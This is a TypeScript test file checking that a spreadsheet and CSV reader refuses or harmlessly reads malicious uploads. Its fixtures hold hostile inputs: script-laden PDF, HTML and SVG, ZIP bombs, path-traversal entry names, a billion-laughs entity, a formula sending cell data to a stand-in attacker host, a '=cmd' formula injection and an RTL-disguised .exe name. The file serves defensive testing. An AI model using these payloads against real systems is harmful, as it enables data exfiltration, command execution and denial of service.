/** Files that are not what they seem, or made to harm: refused with their reason, or read without harm (RI1). */
import { strToU8, zipSync } from 'fflate'
import { describe, expect, test, vi } from 'vitest'
import { packed, type Value, workbook, workbookParts } from '../../../../e2e/fixtures/office/xlsx.ts'
import { readFile, shownName } from './read.ts'

// Generous: the machine may be busy.
vi.setConfig({ testTimeout: 30_000 })

const rows: Value[][] = [['Tên đơn vị'], ['Xã Hoành Mô']]
const reasonOf = (bytes: Uint8Array, name = 'danh-sach.xlsx') =>
  readFile(bytes, name).then(
    ({ sheets }) => sheets.map((sheet) => sheet.rows),
    (error: { name: string; reason?: string }) => `${error.name}: ${error.reason}`,
  )
const withSheet = (xml: string): Uint8Array =>
  packed({ ...workbookParts([{ name: 'A', rows }]), 'xl/worksheets/sheet1.xml': xml })
const sheet = (inside: string) =>
  `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${inside}</sheetData></worksheet>`
const text = (value: string) => strToU8(value)

describe('[RI1] what it is, whatever it is called', () => {
  test.each([
    ['a PDF', text('%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'), 'pdf'],
    ['a PDF behind other bytes', text('\n\n<!-- x --> %PDF-1.4'), 'pdf'],
    ['a web page', text('<!DOCTYPE html><script>alert(1)</script>'), 'html'],
    [
      'a web page that Excel opens',
      text('\ufeff  <html xmlns:x="urn:schemas-microsoft-com:office:excel"><table>'),
      'html',
    ],
    ['a picture of SVG', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'html'],
    [
      'Excel of before 2007',
      Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Array<number>(600).fill(0)]),
      'oldExcel',
    ],
    ['a program', Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0xff, 0xff]), 'notTable'],
    ['a picture', Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), 'notTable'],
    ['nothing', new Uint8Array(), 'empty'],
    ['blanks', text(' \r\n \r\n'), 'empty'],
    ['any archive', zipSync({ 'a.txt': text('x') }), 'brokenWorkbook'],
    ['an archive cut short', workbook([{ name: 'A', rows }]).subarray(0, 200), 'brokenWorkbook'],
    ['quotation marks that never close', text('Tên đơn vị\n"Xã A\n'), 'badQuotes'],
  ])('%s', async (_, bytes, reason) => expect(await reasonOf(bytes)).toBe(`Unreadable: ${reason}`))

  test('a workbook called .csv is a workbook, a text called .xlsx a text', async () => {
    expect(await reasonOf(workbook([{ name: 'A', rows }]), 'a.csv')).toEqual([[['Tên đơn vị'], ['Xã Hoành Mô']]])
    expect(await reasonOf(text('Tên đơn vị;Mã\nXã A;1'), 'a.xlsx')).toEqual([
      [
        ['Tên đơn vị', 'Mã'],
        ['Xã A', '1'],
      ],
    ])
  })
  test('a locked workbook says so', async () => {
    const name = [...'EncryptedPackage'].flatMap((letter) => [letter.charCodeAt(0), 0])
    expect(await reasonOf(Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, ...Array<number>(508).fill(0), ...name]))).toBe(
      'Unreadable: encrypted',
    )
  })
})

describe('[RI1] bounds', () => {
  test('a ZIP bomb is not unpacked', async () => {
    const bomb = withSheet(sheet(' '.repeat(6_000_000)))
    expect(bomb.length).toBeLessThan(20_000)
    expect(await reasonOf(bomb)).toBe('Unreadable: bomb')
  })
  test('a bomb that lies about its size is found out by what comes of it', async () => {
    const honest = withSheet(sheet(' '.repeat(6_000_000)))
    const bytes = Uint8Array.from(honest)
    const view = new DataView(bytes.buffer)
    // Where each part begins, and in the list at the end: unpacked it would be 1,000 bytes.
    for (let at = 0; at + 30 < bytes.length; at++) {
      const mark = view.getUint32(at, true)
      const place = mark === 0x04034b50 ? at + 22 : mark === 0x02014b50 ? at + 24 : undefined
      if (place !== undefined) view.setUint32(place, Math.min(view.getUint32(place, true), 1_000), true)
    }
    expect(await reasonOf(bytes)).toBe('Unreadable: bomb')
  })
  test('too many parts, and parts with names that lead elsewhere, which are not even unpacked', async () => {
    const parts = workbookParts([{ name: 'A', rows }])
    const many = Object.fromEntries(Array.from({ length: 1_500 }, (_, i) => [`xl/media/${i}`, 'x']))
    expect(await reasonOf(packed({ ...parts, ...many }))).toBe('Unreadable: bomb')
    const climbing = { '../../etc/cron.d/x': 'x', '/etc/passwd': 'x', 'xl/worksheets/../../../x.xml': 'x' }
    expect(await reasonOf(packed({ ...climbing, ...parts }))).toEqual([[['Tên đơn vị'], ['Xã Hoành Mô']]])
  })
  test.each([
    ['a cell in the last column', '<row r="1"><c r="XFD1"><v>1</v></c></row>', 'tooWide'],
    ['a cell in the last row', '<row r="1048576"><c r="A1048576"><v>1</v></c></row>', 'tooManyRows'],
    ['a row that is in no sheet', '<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>', 'brokenWorkbook'],
    ['a row of a strange number', '<row r="&#49;e9"><c r="A1"><v>1</v></c></row>', 'brokenWorkbook'],
  ])('%s', async (_, inside, reason) => expect(await reasonOf(withSheet(sheet(inside)))).toBe(`Unreadable: ${reason}`))
  test('far rows and cells that only have a format do no harm', async () => {
    const inside =
      '<row r="1"><c r="A1"><v>7</v></c><c r="XFD1" s="0"/></row><row r="900000" ht="15"><c r="A900000" s="0"/></row>'
    expect(await reasonOf(withSheet(sheet(inside)))).toEqual([[['7']]])
  })
  test('entities that breed are not expanded', async () => {
    const lol = '<!DOCTYPE x [<!ENTITY a "lollollollol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    const read = await reasonOf(
      withSheet(lol + sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>x&b;</t></is></c></row>')),
    )
    expect(JSON.stringify(read)).not.toContain('lol')
  })
  test('a file too large, a table too long', async () => {
    expect(await reasonOf(new Uint8Array(12_000_001))).toBe('Unreadable: tooLarge')
    expect(await reasonOf(text('Xã A\n'.repeat(30_001)))).toBe('Unreadable: tooManyRows')
    expect(await reasonOf(text(`${'x;'.repeat(201)}\n`))).toBe('Unreadable: tooWide')
  })
})

test('[RI1] of a formula only the kept value is read; links to other files are not even unpacked', async () => {
  const formula: Value = { f: 'HYPERLINK("http://attacker.invalid/?"&A1,"x")', v: 'Xã A' }
  const parts = workbookParts([{ name: 'A', rows: [['Tên'], [formula], [{ f: "'[1]B'!A1", v: '7' }]] }])
  const links = { 'xl/externalLinks/externalLink1.xml': '<externalLink', 'xl/connections.xml': '<x' }
  expect(await reasonOf(packed({ ...parts, ...links }))).toEqual([[['Tên'], ['Xã A'], ['7']]])
})

test('[RI1] a text that a spreadsheet would take for a formula stays a text', async () => {
  expect(await reasonOf(text('Tên đơn vị,Mã\n=cmd|"/c calc"!A1,@SUM(1)'))).toEqual([
    [
      ['Tên đơn vị', 'Mã'],
      ['=cmd|"/c calc"!A1', '@SUM(1)'],
    ],
  ])
})

test('[RI1] a name that leads elsewhere is only ever shown, by its last part', () => {
  expect(shownName('../../etc/passwd')).toBe('passwd')
  expect(shownName('C:\\Users\\x\\ds\u202exslx.exe')).toBe('dsxslx.exe')
})
